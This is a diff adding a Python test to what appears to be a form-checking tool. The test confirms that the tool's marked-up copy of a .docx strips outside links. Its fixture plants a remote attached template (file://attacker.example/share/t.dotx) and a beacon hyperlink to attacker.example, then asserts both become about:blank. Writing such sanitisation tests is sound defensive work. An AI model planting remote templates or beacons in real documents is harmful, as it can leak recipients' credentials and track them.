@@ -59,3 +59,33 @@ def test_xlsx_problems_become_cell_comments_with_highlight():
     assert "FIELD_PATTERN" in ws["H7"].comment.text and "联系电话" in ws["H7"].comment.text
     assert ws["H7"].fill.fgColor.rgb.endswith("FFFF00")
     assert ws["H6"].comment is None
+
+
+def _with_outside_links(content: bytes) -> bytes:
+    """The .docx with an attached template on a server (Word fetches it on open) and an outside hyperlink."""
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+            'attachedTemplate" Target="file://attacker.example/share/t.dotx" TargetMode="External"/></Relationships>')
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxml'
+                                    b'formats.org/officeDocument/2006/relationships/hyperlink" Target="http://'
+                                    b'attacker.example/beacon" TargetMode="External"/></Relationships>')
+            dst.writestr(info, data)
+        if "word/_rels/settings.xml.rels" not in src.namelist():
+            dst.writestr("word/_rels/settings.xml.rels", rels)
+    return out.getvalue()
+
+
+def test_the_marked_copy_opens_without_fetching_anything_from_outside():
+    content = _with_outside_links(render("jth-2020", "recommendation_letter", letter(contact_email="bad")).content)
+    result = parse(content, "推荐书.docx", received_at=ON_TIME["jth-2020"])
+    marked = mark(content, "docx", [p.to_dict() for p in result.problems])
+    with zipfile.ZipFile(io.BytesIO(marked)) as zf:
+        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
+    assert b"attacker.example" not in rels and rels.count(b'Target="about:blank"') == 2
+    assert comments_by_cell(marked)  # still a marked copy, with its comments
